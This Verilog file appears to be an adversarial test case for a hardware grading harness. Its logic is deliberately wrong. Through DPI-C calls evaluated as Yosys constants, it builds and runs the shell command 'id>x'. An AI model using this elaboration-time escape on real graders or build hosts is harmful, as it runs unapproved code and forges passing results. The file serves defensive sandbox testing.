// SPDX-License-Identifier: Apache-2.0
// attack: dpi_builds_a_shell_line
// class: escape
// does: Builds the line of a shell in memory, byte by byte, in constants of Yosys.
// must not: run a program.
// speed: fast
module TopModule(input clk, input rst, input [7:0] a, input [7:0] b, output reg [7:0] q);
    always @(posedge clk) q <= rst ? 8'd0 : a - b;  // wrong, so a pass is a forgery
    import "DPI-C" function integer calloc(input integer n, input integer size);
    import "DPI-C" function integer memset(input integer at, input integer c, input integer n);
    import "DPI-C" function integer system(input integer at);
    localparam integer At = calloc(64, 1);
    localparam integer C0 = memset(At, "i", 1);
    localparam integer C1 = memset(At + 1, "d", 1);
    localparam integer C2 = memset(At + 2, ">", 1);
    localparam integer C3 = memset(At + 3, "x", 1);
    localparam integer Done = system(At);
    wire [(C0 + C1 + C2 + C3 + Done) & 1:0] unused;
endmodule
